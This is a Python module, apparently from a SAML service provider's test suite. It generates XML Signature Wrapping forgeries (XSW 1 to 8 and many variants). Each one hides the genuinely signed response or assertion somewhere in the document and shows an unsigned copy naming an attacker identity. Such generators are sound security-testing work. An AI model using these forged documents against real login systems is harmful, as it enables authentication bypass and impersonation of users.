"""Signature wrapping: what the provider signed is in the document, and what is shown is something else (XSW 1 to 8, and their kin)."""

from lxml import etree

from _saml import *  # the provider's whole vocabulary

SAML, SAMLP, DS = f"{{{ASSERTION}}}", f"{{{PROTOCOL}}}", f"{{{DSIG}}}"
EVIL = "eve@example.com"


def parse(document):
    return etree.fromstring(document.encode() if isinstance(document, str) else document)


def text(tree):
    return etree.tostring(tree, encoding="unicode")


def copy(element):
    return etree.fromstring(etree.tostring(element))


def child(element, name):
    found = element.find(name)
    assert found is not None, name
    return found


def evil_of(element, identifier):
    """A copy without signatures that says what the attacker wants."""
    evil = copy(element)
    for signature in list(evil.iter(DS + "Signature")):
        signature.getparent().remove(signature)
    for name in evil.iter(SAML + "NameID"):
        name.text = EVIL
    if identifier is None:
        evil.attrib.pop("ID")
    else:
        evil.set("ID", identifier)
    for inner in evil.iter(SAML + "Assertion"):
        if inner is not evil:
            inner.set("ID", "_inner")
    return evil


def bare(element):
    """A copy without its own signature."""
    original = copy(element)
    original.remove(child(original, DS + "Signature"))
    return original


def wrapped_responses(document):
    """XSW1 and XSW2, and their kin: the signed response hides in an evil one."""
    root = parse(document)
    signed_id = root.get("ID")
    for name, identifier in [("another ID", "_evil"), ("the same ID", signed_id), ("no ID", None)]:
        for where in [
            "Object",
            "before the signature",
            "after the signature",
            "KeyInfo",
            "Extensions",
            "at the end",
            "StatusDetail",
        ]:
            evil, signature = evil_of(root, identifier), copy(child(root, DS + "Signature"))
            issuer = child(evil, SAML + "Issuer")
            issuer.addnext(signature)
            if where == "Object":
                etree.SubElement(signature, DS + "Object").append(bare(root))
            elif where == "KeyInfo":
                etree.SubElement(signature, DS + "KeyInfo").append(bare(root))
            elif where == "before the signature":
                signature.addprevious(bare(root))
            elif where == "after the signature":
                signature.addnext(bare(root))
            elif where == "Extensions":
                extensions = etree.Element(SAMLP + "Extensions")
                extensions.append(copy(root))
                signature.addnext(extensions)
            elif where == "StatusDetail":
                etree.SubElement(child(evil, SAMLP + "Status"), SAMLP + "StatusDetail").append(copy(root))
            else:
                evil.append(copy(root))
            yield f"signed response in the evil one's {where}, {name}", text(evil)


def wrapped_assertions(document):
    """XSW3 to XSW8, and their kin: the signed assertion hides, and an evil one shows."""
    for name, identifier in [("another ID", "_evil"), ("the same ID", "same"), ("no ID", None)]:
        for where in [
            "after the evil one",
            "before the evil one",
            "inside the evil one",
            "at the end without signature",
            "in the signature",
            "under Extensions",
            "evil under Extensions",
            "in Object",
            "in KeyInfo",
            "in Advice",
            "in AttributeValue",
            "in SubjectConfirmationData",
            "in StatusDetail",
            "in Conditions",
            "in the issuer",
        ]:
            root = parse(document)
            original = child(root, SAML + "Assertion")
            evil = evil_of(original, original.get("ID") if identifier == "same" else identifier)
            signature = copy(child(original, DS + "Signature"))
            signed_evil = copy(evil)
            child(signed_evil, SAML + "Issuer").addnext(signature)
            place = {
                "in Advice": lambda: etree.SubElement(signed_evil, SAML + "Advice"),
                "in Object": lambda: etree.SubElement(signature, DS + "Object"),
                "in the signature": lambda: signature,
                "in KeyInfo": lambda: etree.SubElement(signature, DS + "KeyInfo"),
                "in Conditions": lambda: child(signed_evil, SAML + "Conditions"),
                "in the issuer": lambda: child(signed_evil, SAML + "Issuer"),
                "in SubjectConfirmationData": lambda: next(signed_evil.iter(SAML + "SubjectConfirmationData")),
                "in AttributeValue": lambda: etree.SubElement(
                    etree.SubElement(etree.SubElement(signed_evil, SAML + "AttributeStatement"), SAML + "Attribute", Name="x"),
                    SAML + "AttributeValue",
                ),
            }
            if where == "after the evil one":
                original.addprevious(evil)
            elif where == "before the evil one":
                original.addnext(evil)
            elif where == "inside the evil one":
                original.getparent().replace(original, evil)
                evil.append(original)
            elif where == "at the end without signature":
                original.getparent().replace(original, signed_evil)
                root.append(bare(original))
            elif where in ["under Extensions", "evil under Extensions"]:
                extensions = etree.Element(SAMLP + "Extensions")
                child(root, SAMLP + "Status").addprevious(extensions)
                if where == "under Extensions":
                    original.getparent().replace(original, signed_evil)
                    extensions.append(original)
                else:
                    extensions.append(evil)
            elif where == "in StatusDetail":
                original.getparent().replace(original, signed_evil)
                etree.SubElement(child(root, SAMLP + "Status"), SAMLP + "StatusDetail").append(original)
            else:
                original.getparent().replace(original, signed_evil)
                place[where]().append(bare(original))
            yield f"signed assertion {where}, {name}", text(root)


def wrapping(both, assertion_only):
    for document, kind in [(both, "both signed"), (assertion_only, "assertion signed")]:
        for what, changed in wrapped_assertions(document):
            yield f"{what}, {kind}", changed
    for what, changed in wrapped_responses(both):
        yield what, changed
